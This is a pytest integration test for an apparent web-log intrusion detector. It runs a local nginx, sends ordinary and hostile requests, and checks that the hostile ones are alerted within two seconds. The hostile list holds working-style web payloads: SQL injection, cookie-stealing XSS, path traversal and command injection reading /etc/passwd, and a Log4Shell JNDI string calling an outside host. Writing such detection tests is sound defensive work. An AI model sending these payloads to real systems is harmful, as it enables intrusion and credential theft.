"""A real nginx writes the log, a real client makes the requests."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from children import child
from fakes import eventually
from integration.daemon import free_port, running
from servers import require_program

LOG_FORMAT = Path(__file__).parents[2] / "deploy" / "nginx-log-format.conf"

ORDINARY = [
    ("GET", "/", {}),
    ("GET", "/products?page=2&sort=price", {}),
    ("GET", "/search?q=garden+furniture", {}),
    ("GET", "/search?q=O%27Brien", {}),
    ("GET", "/assets/app.8f3b1c.css?v=17", {}),
    ("GET", "/blog/how-to-select-a-union-plan", {}),
    ("GET", "/caf%C3%A9/men%C3%BC", {}),
    ("HEAD", "/favicon.ico", {}),
    ("POST", "/login", {"data": {"username": "marta", "password": "correct horse battery staple"}}),
    ("POST", "/api/orders", {"json": {"sku": "AB-12", "quantity": 3, "note": "leave it at the door, please"}}),
]
HOSTILE = [
    ("GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", {}),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}),
    ("GET", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", {}),
    ("GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", {}),
    ("POST", "/login", {"data": {"username": "admin' or '1'='1' -- ", "password": "x"}}),
    ("POST", "/api/comments", {"json": {"text": "<img src=x onerror=alert(document.cookie)>"}}),
    ("GET", "/", {"headers": {"User-Agent": "${jndi:ldap://203.0.113.7:1389/Exploit}"}}),
]


@pytest.fixture
def nginx(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """An nginx that logs as we advise; yields its address and its log."""
    program = require_program("nginx")
    port, upstream = free_port(), free_port()
    log = tmp_path / "access.json.log"
    config = tmp_path / "nginx.conf"
    temporary = "\n".join(
        f"    {name}_temp_path {tmp_path}/{name};" for name in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    config.write_text(
        f"""
daemon off; pid {tmp_path}/nginx.pid; error_log {tmp_path}/error.log; worker_processes 1;
events {{}}
http {{
{temporary}
    include {LOG_FORMAT};
    server {{ listen 127.0.0.1:{upstream}; access_log off; location / {{ return 200 "ok"; }} }}
    server {{
        listen 127.0.0.1:{port};
        access_log {log} weirlog;
        location / {{ proxy_pass http://127.0.0.1:{upstream}; }}
    }}
}}
"""
    )
    command = [program, "-c", str(config), "-p", str(tmp_path), "-e", str(tmp_path / "error.log")]
    with child(command) as process:
        try:
            address = f"http://127.0.0.1:{port}"
            assert eventually(lambda: answers(address)), (tmp_path / "error.log").read_text()
            yield address, log
        finally:
            process.terminate()  # which ends its workers, too
            process.wait(10)


def answers(address: str) -> bool:
    try:
        return httpx.get(address).status_code == 200
    except httpx.HTTPError:
        return False


@pytest.mark.server
def test_hostile_requests_are_alerted_within_two_seconds_and_ordinary_ones_never(
    tmp_path: Path, nginx: tuple[str, Path]
) -> None:
    address, log = nginx
    with running(tmp_path, f"{{type: file, paths: ['{log}'], format: nginx-json}}") as daemon:
        for method, target, content in ORDINARY:
            assert httpx.request(method, address + target, **content).status_code == 200
        assert eventually(lambda: daemon.figure("weirlog_records_scored_total") >= len(ORDINARY))
        assert daemon.alerts == []
        for number, (method, target, content) in enumerate(HOSTILE, start=1):
            httpx.request(method, address + target, **content)
            sent = time.monotonic()
            assert eventually(lambda number=number: len(daemon.alerts) == number), (target, daemon.stderr)
            assert time.monotonic() - sent < 2.0, target
        assert daemon.figure("weirlog_records_unparsable_total") == 0
        assert daemon.terminate() == 0
    assert [alert["client"]["address"] for alert in daemon.alerts] == ["127.0.0.1"] * len(HOSTILE)
    assert daemon.alerts[0]["explanation"]["field"] == "query.id"
